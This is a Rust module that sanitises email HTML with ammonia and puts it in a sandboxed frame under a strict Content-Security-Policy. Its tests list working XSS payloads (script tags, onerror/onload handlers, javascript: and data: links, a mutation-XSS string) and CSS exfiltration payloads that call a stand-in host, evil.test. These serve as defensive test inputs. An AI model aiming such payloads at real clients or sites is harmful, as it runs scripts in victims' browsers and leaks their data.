//! A message's HTML made safe to show: ammonia (html5ever) keeps a list of
//! harmless tags and attributes and drops everything else — scripts,
//! event handlers, `javascript:` and other schemes, `<style>` blocks (the
//! tool of CSS exfiltration), forms, frames, `<base>`. Remote images are
//! dropped unless the reader allowed them. What is left is shown in a
//! frame that is sandboxed (no scripts, no same origin) under its own
//! Content-Security-Policy ([`frame_csp`]): two locks, each enough alone.

use std::borrow::Cow;

/// The sanitised HTML, as a whole document for the frame.
pub fn sanitize(html: &str, remote: bool) -> String {
    let mut b = ammonia::Builder::default();
    b.url_schemes(
        ["http", "https", "mailto", "cid", "data"]
            .into_iter()
            .collect(),
    )
    .link_rel(Some("noopener noreferrer"))
    .set_tag_attribute_value("a", "target", "_blank")
    .add_generic_attributes([
        "style", "align", "valign", "width", "height", "bgcolor", "color",
    ])
    .add_tags(["font", "center"])
    .attribute_filter(move |element, attribute, value| {
        let v = value.trim_start().to_ascii_lowercase();
        match (element, attribute) {
            // Images: inline ones (data:), and remote ones only when
            // allowed (a remote image tells the sender you read it).
            ("img", "src") => {
                if v.starts_with("data:image/")
                    || (remote && (v.starts_with("https:") || v.starts_with("http:")))
                {
                    Some(Cow::Borrowed(value))
                } else {
                    None
                }
            }
            // Links go to the web only (no data: documents, no cid:).
            (_, "href") => {
                if v.starts_with("data:") || v.starts_with("cid:") {
                    None
                } else {
                    Some(Cow::Borrowed(value))
                }
            }
            // Inline styles stay, but never load anything: `url(`,
            // `image-set(`, `@import` and `expression(` are cut.
            (_, "style") => {
                let compact: String = v.chars().filter(|c| !c.is_whitespace()).collect();
                if compact.contains("url(")
                    || compact.contains("image-set(")
                    || compact.contains("@import")
                    || compact.contains("expression(")
                    || compact.contains('\\')
                {
                    None
                } else {
                    Some(Cow::Borrowed(value))
                }
            }
            _ => Some(Cow::Borrowed(value)),
        }
    });
    let body = b.clean(html).to_string();
    format!(
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><meta name=\"referrer\" content=\"no-referrer\"></head><body>{body}</body></html>\n"
    )
}

/// The policy of the message frame: no script at all, no connection, no
/// form; images inline, remote only when allowed; styles inline only;
/// sandboxed (a unique origin: no cookies, no access to the page).
pub fn frame_csp(remote: bool) -> String {
    let img = if remote {
        "data: https: http:"
    } else {
        "data:"
    };
    format!(
        "default-src 'none'; img-src {img}; style-src 'unsafe-inline'; font-src data:; form-action 'none'; frame-ancestors 'self'; base-uri 'none'; sandbox allow-popups allow-popups-to-escape-sandbox"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn clean(s: &str) -> String {
        sanitize(s, false)
    }

    #[test]
    fn scripts_and_handlers_are_removed() {
        for attack in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)><circle r=1></svg>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\" JaVaScRiPt:alert(1)\">x</a>",
            "<iframe src=\"https://evil.test\"></iframe>",
            "<object data=\"x.swf\"></object>",
            "<form action=\"https://evil.test\"><input name=p></form>",
            "<base href=\"https://evil.test/\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test\">",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        ] {
            let out = clean(attack).to_lowercase();
            let body = out.split("<body>").nth(1).unwrap();
            for bad in [
                "<script",
                "onerror",
                "onload",
                "javascript:",
                "<iframe",
                "<object",
                "<form",
                "<base",
                "http-equiv",
                "data:text",
            ] {
                assert!(!body.contains(bad), "{attack} left {bad}: {out}");
            }
        }
    }

    #[test]
    fn css_cannot_load_anything() {
        let out = clean(
            "<style>input[value^=a]{background:url(https://evil.test/a)}</style>\
             <p style=\"background: URL( 'https://evil.test/x')\">a</p>\
             <p style=\"background:u\\72l(https://evil.test/x)\">b</p>\
             <p style=\"color: red\">c</p>",
        );
        assert!(!out.contains("evil.test"), "{out}");
        assert!(out.contains("color: red"), "{out}");
    }

    #[test]
    fn remote_images_only_when_allowed() {
        let html =
            "<img src=\"https://tracker.test/p.gif\"><img src=\"data:image/png;base64,AAAA\">";
        let blocked = sanitize(html, false);
        assert!(!blocked.contains("tracker.test"), "{blocked}");
        assert!(blocked.contains("data:image/png"), "{blocked}");
        assert!(sanitize(html, true).contains("tracker.test"));
    }

    #[test]
    fn links_open_outside_without_referrer() {
        let out = clean("<a href=\"https://example.test/\">x</a>");
        assert!(out.contains("rel=\"noopener noreferrer\""), "{out}");
        assert!(out.contains("target=\"_blank\""), "{out}");
    }

    #[test]
    fn the_frame_policy_forbids_scripts() {
        let p = frame_csp(false);
        assert!(p.contains("default-src 'none'"));
        assert!(p.contains("sandbox"));
        assert!(!p.contains("script-src"));
        assert!(!p.contains("https:"));
    }
}
